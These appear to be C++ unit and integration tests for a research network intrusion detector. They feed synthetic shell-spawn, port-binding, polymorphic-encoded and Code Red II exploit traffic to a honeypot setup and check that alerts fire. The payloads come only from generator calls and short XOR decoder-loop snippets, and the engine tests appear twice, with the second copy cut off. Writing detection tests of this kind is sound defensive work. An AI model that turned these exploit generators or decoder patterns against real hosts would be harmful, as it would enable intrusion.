  // head: xor byte [eax], 0x95; inc eax; loop head; ret
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.xor_mem8_imm8(R32::eax, 0x95);
  a.inc_r32(R32::eax);
  a.loop_(head);
  a.ret();
  Bytes code = a.finish();

  auto trace = execution_trace(code, 0);
  // Falls through the conditional loop once, reaching ret; no revisit.
  ASSERT_EQ(trace.size(), 4u);
  EXPECT_EQ(trace[2].mnemonic, Mnemonic::kLoop);
  EXPECT_EQ(trace[3].mnemonic, Mnemonic::kRet);
}

TEST(ExecutionTrace, ClosesWhenJmpRevisits) {
  // A: inc eax; jmp A  -- trace must terminate.
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.inc_r32(R32::eax);
  a.jmp_short(head);
  Bytes code = a.finish();

  auto trace = execution_trace(code, 0);
  EXPECT_EQ(trace.size(), 2u);
}

TEST(ExecutionTrace, OutOfOrderBlocksLinearized) {
  // Figure 1(c) shape: physical order differs from execution order.
  Asm a;
  auto one = a.new_label();
  auto two = a.new_label();
  auto three = a.new_label();
  // entry:
  a.mov_r32_imm32(R32::ecx, 0);
  a.inc_r32(R32::ecx);
  a.inc_r32(R32::ecx);
  a.jmp_short(one);
  a.bind(two);
  a.add_r32_imm(R32::eax, 1);
  a.jmp_short(three);
  a.bind(one);
  a.mov_r32_imm32(R32::ebx, 0x31);
  a.add_r32_imm(R32::ebx, 0x64);
  a.xor_mem8_r8(R32::eax, R8::bl);
  a.jmp_short(two);
  a.bind(three);
  a.ret();
  Bytes code = a.finish();

  auto trace = execution_trace(code, 0);
  // Execution order: mov ecx, inc, inc, jmp, mov ebx, add ebx, xor, jmp,
  // add eax, jmp, ret.
  std::vector<Mnemonic> got;
  for (const auto& insn : trace) got.push_back(insn.mnemonic);
  std::vector<Mnemonic> want{
      Mnemonic::kMov, Mnemonic::kInc, Mnemonic::kInc, Mnemonic::kJmp,
      Mnemonic::kMov, Mnemonic::kAdd, Mnemonic::kXor, Mnemonic::kJmp,
      Mnemonic::kAdd, Mnemonic::kJmp, Mnemonic::kRet};
  EXPECT_EQ(got, want);
}

TEST(ExecutionTrace, StopsAtInvalidByte) {
  Bytes code{0x90, 0xD8, 0x90};
  auto trace = execution_trace(code, 0);
  EXPECT_EQ(trace.size(), 1u);
}

TEST(ExecutionTrace, StopsAtBufferEscape) {
  Asm a;
  auto far = a.new_label();
  a.inc_r32(R32::eax);
  a.jmp(far);  // target bound past the end? bind at end, then truncate
  a.bind(far);
  Bytes code = a.finish();
  code.resize(code.size());  // target == size: out of buffer
  auto trace = execution_trace(code, 0);
  EXPECT_EQ(trace.size(), 2u);
}

TEST(ExecutionTrace, MaxInsnsRespected) {
  Bytes code(1000, 0x90);
  EXPECT_EQ(execution_trace(code, 0, 100).size(), 100u);
}

TEST(ExecutionTrace, EntryBeyondBufferEmpty) {
  Bytes code(4, 0x90);
  EXPECT_TRUE(execution_trace(code, 10).empty());
}

TEST(ExecutionTrace, ConditionalBranchFallsThrough) {
  Asm a;
  auto skip = a.new_label();
  a.test_r32_r32(R32::eax, R32::eax);
  a.jnz(skip);
  a.inc_r32(R32::ebx);  // fall-through path: must be in the trace
  a.bind(skip);
  a.ret();
  Bytes code = a.finish();
  auto trace = execution_trace(code, 0);
  ASSERT_EQ(trace.size(), 4u);
  EXPECT_EQ(trace[2].mnemonic, Mnemonic::kInc);
}

}  // namespace
}  // namespace senids::arch
