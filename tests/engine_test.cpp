// Integration tests: the full Figure-3 pipeline over synthetic captures.
#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <mutex>
#include <set>

#include "core/senids.hpp"
#include "verify/ir_verify.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);
const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kAttacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

NidsEngine make_engine(std::size_t threads = 1) {
  NidsOptions options;
  options.threads = threads;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  nids.classifier().dark_space().add_unused_prefix(
      classify::Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  return nids;
}

TEST(Engine, HoneypotPathDetectsExploit) {
  gen::TraceBuilder tb(11);
  auto exploit = gen::make_shell_spawn_corpus()[0];
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, exploit.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
  ASSERT_FALSE(report.alerts.empty());
  EXPECT_EQ(report.alerts[0].src, kAttacker.ip);
  EXPECT_EQ(report.alerts[0].dst, kHoneypot);
}

TEST(Engine, CleanTrafficNoAlerts) {
  gen::TraceBuilder tb(12);
  for (int i = 0; i < 30; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_EQ(report.stats.suspicious_packets, 0u);
  EXPECT_GT(report.stats.packets, 30u);
}

TEST(Engine, UntaintedExploitIsMissedByDesign) {
  // Classification prunes: an exploit aimed at a production host from a
  // never-suspicious source is not analyzed (the efficiency/coverage
  // trade the paper makes).
  gen::TraceBuilder tb(13);
  auto exploit = gen::make_shell_spawn_corpus()[1];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80}, exploit.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.alerts.empty());
}

TEST(Engine, ScanThenExploitCaughtByDarkSpace) {
  gen::TraceBuilder tb(14);
  // Scanner probes dark space past the threshold, then attacks a real
  // server: the dark-space scheme must have tainted it by then.
  tb.add_syn_scan(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 1), 80, 8);
  auto exploit = gen::make_shell_spawn_corpus()[2];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::wrap_in_overflow(exploit.code, tb.prng()));
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, PolymorphicExploitDetected) {
  gen::TraceBuilder tb(15);
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  auto poly = gen::admmutate_encode(payload, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, poly.bytes);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kDecryptionLoop));
}

TEST(Engine, CodeRedDetectedViaUnicodeFrame) {
  gen::TraceBuilder tb(16);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, gen::make_code_red_ii_request());
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  ASSERT_TRUE(report.detected(ThreatClass::kCodeRedII));
  // The alert must come from the unicode-decoded frame.
  bool unicode_frame = false;
  for (const Alert& a : report.alerts) {
    if (a.threat == ThreatClass::kCodeRedII &&
        a.frame_reason == extract::FrameReason::kUnicodeDecoded) {
      unicode_frame = true;
    }
  }
  EXPECT_TRUE(unicode_frame);
}

TEST(Engine, MultiSegmentPayloadReassembled) {
  // Exploit split across small TCP segments: only the reassembled stream
  // contains the whole decoder.
  gen::TraceBuilder tb(17);
  auto payload = gen::make_iis_asp_overflow_payload();
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, payload, /*mss=*/16);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kDecryptionLoop));
}

TEST(Engine, AnalyzeEverythingModeSeesUntargetedExploit) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options);
  gen::TraceBuilder tb(18);
  auto exploit = gen::make_shell_spawn_corpus()[5];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::wrap_in_overflow(exploit.code, tb.prng()));
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, PortBindExploitRaisesBothThreats) {
  gen::TraceBuilder tb(19);
  auto corpus = gen::make_shell_spawn_corpus();
  const auto& binder = corpus[8];
  ASSERT_TRUE(binder.binds_port);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, binder.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
  EXPECT_TRUE(report.detected(ThreatClass::kPortBindShell));
}

TEST(Engine, ParallelMatchesSerialResults) {
  auto build = [] {
    gen::TraceBuilder tb(20);
    auto corpus = gen::make_shell_spawn_corpus();
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      Endpoint atk{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                   31337};
      tb.add_tcp_flow(atk, Endpoint{kHoneypot, 80}, corpus[i].code);
    }
    for (int i = 0; i < 10; ++i) {
      tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
    }
    return tb.take();
  };
  auto capture = build();

  auto serial_engine = make_engine(1);
  auto parallel_engine = make_engine(4);
  Report serial = serial_engine.process_capture(capture);
  Report parallel = parallel_engine.process_capture(capture);

  ASSERT_EQ(serial.alerts.size(), parallel.alerts.size());
  for (std::size_t i = 0; i < serial.alerts.size(); ++i) {
    EXPECT_EQ(serial.alerts[i].template_name, parallel.alerts[i].template_name);
    EXPECT_EQ(serial.alerts[i].src.value, parallel.alerts[i].src.value);
  }
  EXPECT_EQ(serial.stats.units_analyzed, parallel.stats.units_analyzed);
  EXPECT_EQ(serial.stats.frames_extracted, parallel.stats.frames_extracted);
}

TEST(Engine, StatsAreCoherent) {
  gen::TraceBuilder tb(21);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::make_shell_spawn_corpus()[0].code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_EQ(report.stats.packets, tb.capture().records.size());
  EXPECT_GE(report.stats.suspicious_packets, 1u);
  EXPECT_GE(report.stats.units_analyzed, 1u);
  EXPECT_GE(report.stats.frames_extracted, 1u);
  EXPECT_GT(report.stats.bytes_analyzed, 0u);
}

TEST(Engine, AlertStringRendersFields) {
  Alert a;
  a.src = Ipv4Addr::from_octets(1, 2, 3, 4);
  a.dst = Ipv4Addr::from_octets(5, 6, 7, 8);
  a.src_port = 10;
  a.dst_port = 80;
  a.threat = ThreatClass::kShellSpawn;
  a.template_name = "t";
  std::string s = a.str();
  EXPECT_NE(s.find("1.2.3.4:10"), std::string::npos);
  EXPECT_NE(s.find("5.6.7.8:80"), std::string::npos);
  EXPECT_NE(s.find("shell-spawn"), std::string::npos);
}

TEST(Engine, CustomTemplateLibrary) {
  // An engine built with only the Code Red template ignores shell spawns.
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options, {semantic::tmpl_code_red_ii()});
  gen::TraceBuilder tb(22);
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::make_shell_spawn_corpus()[0].code);
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80}, gen::make_code_red_ii_request());
  Report report = nids.process_capture(tb.capture());
  EXPECT_FALSE(report.detected(ThreatClass::kShellSpawn));
  EXPECT_TRUE(report.detected(ThreatClass::kCodeRedII));
}

TEST(Engine, UdpPayloadAnalyzedDirectly) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options);
  gen::TraceBuilder tb(23);
  tb.add_udp(kAttacker, Endpoint{kServer, 69},
             gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, tb.prng()));
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, EmptyCapture) {
  auto nids = make_engine();
  pcap::Capture empty;
  Report report = nids.process_capture(empty);
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_EQ(report.stats.packets, 0u);
}

}  // namespace
}  // namespace senids::core

namespace senids::core {
namespace {

TEST(Engine, ReportStrRendersEverything) {
  gen::TraceBuilder tb(24);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[0].code, tb.prng()));
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  const std::string text = report.str();
  EXPECT_NE(text.find("packets"), std::string::npos);
  EXPECT_NE(text.find("alerts"), std::string::npos);
  EXPECT_NE(text.find("192.0.2.66"), std::string::npos);
  EXPECT_NE(text.find("shell-spawn"), std::string::npos);
  EXPECT_NE(text.find("offending sources"), std::string::npos);
}

void expect_alerts_equal(const std::vector<Alert>& a, const std::vector<Alert>& b) {
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts_sec, b[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a[i].src.value, b[i].src.value) << "alert " << i;
    EXPECT_EQ(a[i].dst.value, b[i].dst.value) << "alert " << i;
    EXPECT_EQ(a[i].src_port, b[i].src_port) << "alert " << i;
    EXPECT_EQ(a[i].dst_port, b[i].dst_port) << "alert " << i;
    EXPECT_EQ(a[i].threat, b[i].threat) << "alert " << i;
    EXPECT_EQ(a[i].template_name, b[i].template_name) << "alert " << i;
    EXPECT_EQ(a[i].frame_reason, b[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a[i].frame_offset, b[i].frame_offset) << "alert " << i;
  }
}

/// Forge one TCP segment frame at an explicit capture time (the
/// TraceBuilder always FINs its flows; eviction tests need flows that
/// stay open and timestamps with multi-second gaps).
void add_segment(pcap::Capture& cap, std::uint32_t ts, const Endpoint& src,
                 const Endpoint& dst, std::uint32_t seq, util::ByteView payload,
                 std::uint8_t flags = net::kTcpPsh | net::kTcpAck) {
  cap.add(ts, 0, net::forge_tcp(src, dst, seq, payload, flags));
}

TEST(Engine, StreamingMatchesSerialOnDemoTrace) {
  // The repo's demo capture (same content as examples/trace_analysis
  // synthesizes): the streaming parallel pipeline must produce the exact
  // ordered alert list and unit-level stats of the serial engine.
  auto capture = pcap::read_file(SENIDS_SOURCE_DIR "/demo_trace.pcap");
  ASSERT_TRUE(capture.has_value());
  auto serial_engine = make_engine(1);
  auto parallel_engine = make_engine(4);
  Report serial = serial_engine.process_capture(*capture);
  Report parallel = parallel_engine.process_capture(*capture);
  EXPECT_FALSE(serial.alerts.empty());
  expect_alerts_equal(serial.alerts, parallel.alerts);
  EXPECT_EQ(serial.stats.units_analyzed, parallel.stats.units_analyzed);
  EXPECT_EQ(serial.stats.frames_extracted, parallel.stats.frames_extracted);
  EXPECT_EQ(serial.stats.bytes_analyzed, parallel.stats.bytes_analyzed);
  EXPECT_EQ(serial.stats.suspicious_packets, parallel.stats.suspicious_packets);
}

TEST(Engine, IrVerifierCleanOverDemoTrace) {
  // Run the IR verifier (the debug-build post-lift hook) explicitly over
  // every unit the demo capture lifts: the lifter must produce zero
  // verifier violations on real pipeline traffic, in all build types.
  auto capture = pcap::read_file(SENIDS_SOURCE_DIR "/demo_trace.pcap");
  ASSERT_TRUE(capture.has_value());
  std::atomic<std::size_t> lifts{0};
  std::atomic<std::size_t> violations{0};
  std::mutex mu;
  std::string first_report;
  NidsOptions options;
  options.analyzer.post_lift_hook = [&](const std::vector<arch::Instruction>& trace,
                                        const ir::LiftResult& lifted) {
    ++lifts;
    verify::Report r = verify::verify_ir(trace, lifted);
    if (!r.ok()) {
      violations += r.errors();
      std::lock_guard<std::mutex> lock(mu);
      if (first_report.empty()) first_report = r.str();
    }
  };
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  Report report = nids.process_capture(*capture);
  EXPECT_GT(lifts.load(), 0u);
  EXPECT_EQ(violations.load(), 0u) << first_report;
}

TEST(Engine, DeterministicOrderAcrossSchedules) {
  // Several flows from one source in the same second, alerts differing
  // only in src_port / frame_offset: the full-key sort must give the
  // same order on every worker schedule.
  gen::TraceBuilder tb(42);
  auto exploit = gen::make_shell_spawn_corpus()[0];
  for (int i = 0; i < 8; ++i) {
    Endpoint atk{kAttacker.ip, static_cast<std::uint16_t>(30000 + i)};
    tb.add_tcp_flow(atk, Endpoint{kHoneypot, 80}, exploit.code);
  }
  auto capture = tb.take();

  auto serial_engine = make_engine(1);
  Report serial = serial_engine.process_capture(capture);
  EXPECT_GE(serial.alerts.size(), 8u);
  for (int run = 0; run < 3; ++run) {
    auto parallel_engine = make_engine(4);
    Report parallel = parallel_engine.process_capture(capture);
    expect_alerts_equal(serial.alerts, parallel.alerts);
  }
}

TEST(Engine, AlertMetaPinnedToFirstSegment) {
  // A multi-segment flow spanning several capture seconds: the alert
  // must carry the first suspicious segment's timestamp, not the last's.
  util::Prng prng(7);
  const auto payload = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[0].code, prng);
  pcap::Capture cap;
  std::uint32_t seq = 1;
  std::uint32_t ts = 1000;
  std::size_t off = 0;
  while (off < payload.size()) {
    const std::size_t chunk = std::min<std::size_t>(256, payload.size() - off);
    add_segment(cap, ts, kAttacker, Endpoint{kHoneypot, 80}, seq,
                util::ByteView(payload).subspan(off, chunk));
    seq += static_cast<std::uint32_t>(chunk);
    off += chunk;
    ts += 5;  // the flow drags on for many seconds
  }
  add_segment(cap, ts, kAttacker, Endpoint{kHoneypot, 80}, seq, {}, net::kTcpFin);

  auto nids = make_engine();
  Report report = nids.process_capture(cap);
  ASSERT_FALSE(report.alerts.empty());
  for (const Alert& a : report.alerts) EXPECT_EQ(a.ts_sec, 1000u);
}

TEST(Engine, IdleTimeoutEvictsAndStillAlerts) {
  // An exploit flow goes quiet without ever closing; later unrelated
  // traffic advances capture time past the timeout. The flow must be
  // flushed by eviction (counted) and its alert still fire.
  util::Prng prng(8);
  const auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, prng);
  pcap::Capture cap;
  add_segment(cap, 1000, kAttacker, Endpoint{kHoneypot, 80}, 1, exploit);
  // A second source keeps the capture alive 10 minutes later.
  const Endpoint other{Ipv4Addr::from_octets(192, 0, 2, 99), 40000};
  add_segment(cap, 1600, other, Endpoint{kHoneypot, 80}, 1,
              util::to_bytes("GET / HTTP/1.0\r\n\r\n"));

  NidsOptions options;
  options.flow_idle_timeout_sec = 300;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  Report report = nids.process_capture(cap);
  EXPECT_EQ(report.stats.flows_evicted_idle, 1u);
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, MaxFlowsCapEvictsOldest) {
  // Five never-closing exploit flows with a cap of two live flows: three
  // must be flushed by overflow eviction, and every source still alerts.
  util::Prng prng(9);
  const auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[2].code, prng);
  pcap::Capture cap;
  for (int i = 0; i < 5; ++i) {
    const Endpoint atk{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(30 + i)),
                       static_cast<std::uint16_t>(20000 + i)};
    add_segment(cap, 1000 + static_cast<std::uint32_t>(i), atk, Endpoint{kHoneypot, 80},
                1, exploit);
  }

  NidsOptions options;
  options.max_flows = 2;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  Report report = nids.process_capture(cap);
  EXPECT_EQ(report.stats.flows_evicted_overflow, 3u);
  std::set<std::uint32_t> sources;
  for (const Alert& a : report.alerts) sources.insert(a.src.value);
  EXPECT_EQ(sources.size(), 5u);
}

TEST(Engine, BoundedMemoryOnLongLivedFlow) {
  // One flow whose stream would grow far past max_stream_bytes: the
  // engine must flush truncated prefixes (alerting on the exploit in the
  // first one) instead of accumulating the whole stream.
  util::Prng prng(10);
  const auto exploit = gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[3].code, prng);
  constexpr std::size_t kStreamCap = 8192;
  util::Bytes payload = exploit;
  payload.resize(96 * 1024, 0x41);  // long benign tail, no FIN ever

  pcap::Capture cap;
  std::uint32_t seq = 1;
  std::size_t off = 0;
  std::uint32_t ts = 1000;
  while (off < payload.size()) {
    const std::size_t chunk = std::min<std::size_t>(1024, payload.size() - off);
    add_segment(cap, ts++, kAttacker, Endpoint{kHoneypot, 80}, seq,
                util::ByteView(payload).subspan(off, chunk));
    seq += static_cast<std::uint32_t>(chunk);
    off += chunk;
  }

  NidsOptions options;
  options.max_stream_bytes = kStreamCap;
  options.max_flows = 4;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  Report report = nids.process_capture(cap);
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
  EXPECT_GE(report.stats.streams_truncated, 2u);
  // Bounded state: every flushed unit is at most the stream cap, so the
  // 96 KiB flow must have been split across many units.
  EXPECT_GE(report.stats.units_analyzed, payload.size() / kStreamCap);
}

TEST(Engine, AlertStrLongTemplateNameNotTruncated) {
  Alert a;
  a.src = Ipv4Addr::from_octets(1, 2, 3, 4);
  a.dst = Ipv4Addr::from_octets(5, 6, 7, 8);
  a.template_name = std::string(300, 'x') + "-tail";
  const std::string s = a.str();
  EXPECT_NE(s.find(a.template_name), std::string::npos);
  EXPECT_NE(s.find("1.2.3.4"), std::string::npos);

  Report report;
  report.alerts.push_back(a);
  const std::string text = report.str();
  EXPECT_NE(text.find(a.template_name), std::string::npos);
  EXPECT_NE(text.find("flow evictions"), std::string::npos);
}

TEST(Engine, AnalyzerWorkBudgetBoundsPathologicalFrames) {
  // A frame of 200k one-byte instructions: without the budget this would
  // lift ~8192 entries x thousands of instructions.
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.analyzer.max_total_insns = 10000;
  NidsEngine nids(options);
  util::Bytes sled(200000, 0x90);
  core::Alert meta;
  NidsStats stats;
  nids.analyze_payload(sled, meta, &stats);
  EXPECT_LE(stats.analyzer.instructions_lifted, 10000u + 4096u);
}

}  // namespace
}  // namespace senids::core
