// Integration tests: the full Figure-3 pipeline over synthetic captures.
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);
const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kAttacker{Ipv4Addr::from_octets(192, 0, 2, 66), 31337};
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

NidsEngine make_engine(std::size_t threads = 1) {
  NidsOptions options;
  options.threads = threads;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  nids.classifier().dark_space().add_unused_prefix(
      classify::Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  return nids;
}

TEST(Engine, HoneypotPathDetectsExploit) {
  gen::TraceBuilder tb(11);
  auto exploit = gen::make_shell_spawn_corpus()[0];
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, exploit.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
  ASSERT_FALSE(report.alerts.empty());
  EXPECT_EQ(report.alerts[0].src, kAttacker.ip);
  EXPECT_EQ(report.alerts[0].dst, kHoneypot);
}

TEST(Engine, CleanTrafficNoAlerts) {
  gen::TraceBuilder tb(12);
  for (int i = 0; i < 30; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_EQ(report.stats.suspicious_packets, 0u);
  EXPECT_GT(report.stats.packets, 30u);
}

TEST(Engine, UntaintedExploitIsMissedByDesign) {
  // Classification prunes: an exploit aimed at a production host from a
  // never-suspicious source is not analyzed (the efficiency/coverage
  // trade the paper makes).
  gen::TraceBuilder tb(13);
  auto exploit = gen::make_shell_spawn_corpus()[1];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80}, exploit.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.alerts.empty());
}

TEST(Engine, ScanThenExploitCaughtByDarkSpace) {
  gen::TraceBuilder tb(14);
  // Scanner probes dark space past the threshold, then attacks a real
  // server: the dark-space scheme must have tainted it by then.
  tb.add_syn_scan(kAttacker, Ipv4Addr::from_octets(10, 0, 200, 1), 80, 8);
  auto exploit = gen::make_shell_spawn_corpus()[2];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::wrap_in_overflow(exploit.code, tb.prng()));
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, PolymorphicExploitDetected) {
  gen::TraceBuilder tb(15);
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  auto poly = gen::admmutate_encode(payload, tb.prng());
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, poly.bytes);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kDecryptionLoop));
}

TEST(Engine, CodeRedDetectedViaUnicodeFrame) {
  gen::TraceBuilder tb(16);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, gen::make_code_red_ii_request());
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  ASSERT_TRUE(report.detected(ThreatClass::kCodeRedII));
  // The alert must come from the unicode-decoded frame.
  bool unicode_frame = false;
  for (const Alert& a : report.alerts) {
    if (a.threat == ThreatClass::kCodeRedII &&
        a.frame_reason == extract::FrameReason::kUnicodeDecoded) {
      unicode_frame = true;
    }
  }
  EXPECT_TRUE(unicode_frame);
}

TEST(Engine, MultiSegmentPayloadReassembled) {
  // Exploit split across small TCP segments: only the reassembled stream
  // contains the whole decoder.
  gen::TraceBuilder tb(17);
  auto payload = gen::make_iis_asp_overflow_payload();
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, payload, /*mss=*/16);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kDecryptionLoop));
}

TEST(Engine, AnalyzeEverythingModeSeesUntargetedExploit) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options);
  gen::TraceBuilder tb(18);
  auto exploit = gen::make_shell_spawn_corpus()[5];
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::wrap_in_overflow(exploit.code, tb.prng()));
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, PortBindExploitRaisesBothThreats) {
  gen::TraceBuilder tb(19);
  auto corpus = gen::make_shell_spawn_corpus();
  const auto& binder = corpus[8];
  ASSERT_TRUE(binder.binds_port);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80}, binder.code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
  EXPECT_TRUE(report.detected(ThreatClass::kPortBindShell));
}

TEST(Engine, ParallelMatchesSerialResults) {
  auto build = [] {
    gen::TraceBuilder tb(20);
    auto corpus = gen::make_shell_spawn_corpus();
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      Endpoint atk{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                   31337};
      tb.add_tcp_flow(atk, Endpoint{kHoneypot, 80}, corpus[i].code);
    }
    for (int i = 0; i < 10; ++i) {
      tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
    }
    return tb.take();
  };
  auto capture = build();

  auto serial_engine = make_engine(1);
  auto parallel_engine = make_engine(4);
  Report serial = serial_engine.process_capture(capture);
  Report parallel = parallel_engine.process_capture(capture);

  ASSERT_EQ(serial.alerts.size(), parallel.alerts.size());
  for (std::size_t i = 0; i < serial.alerts.size(); ++i) {
    EXPECT_EQ(serial.alerts[i].template_name, parallel.alerts[i].template_name);
    EXPECT_EQ(serial.alerts[i].src.value, parallel.alerts[i].src.value);
  }
  EXPECT_EQ(serial.stats.units_analyzed, parallel.stats.units_analyzed);
  EXPECT_EQ(serial.stats.frames_extracted, parallel.stats.frames_extracted);
}

TEST(Engine, StatsAreCoherent) {
  gen::TraceBuilder tb(21);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::make_shell_spawn_corpus()[0].code);
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  EXPECT_EQ(report.stats.packets, tb.capture().records.size());
  EXPECT_GE(report.stats.suspicious_packets, 1u);
  EXPECT_GE(report.stats.units_analyzed, 1u);
  EXPECT_GE(report.stats.frames_extracted, 1u);
  EXPECT_GT(report.stats.bytes_analyzed, 0u);
}

TEST(Engine, AlertStringRendersFields) {
  Alert a;
  a.src = Ipv4Addr::from_octets(1, 2, 3, 4);
  a.dst = Ipv4Addr::from_octets(5, 6, 7, 8);
  a.src_port = 10;
  a.dst_port = 80;
  a.threat = ThreatClass::kShellSpawn;
  a.template_name = "t";
  std::string s = a.str();
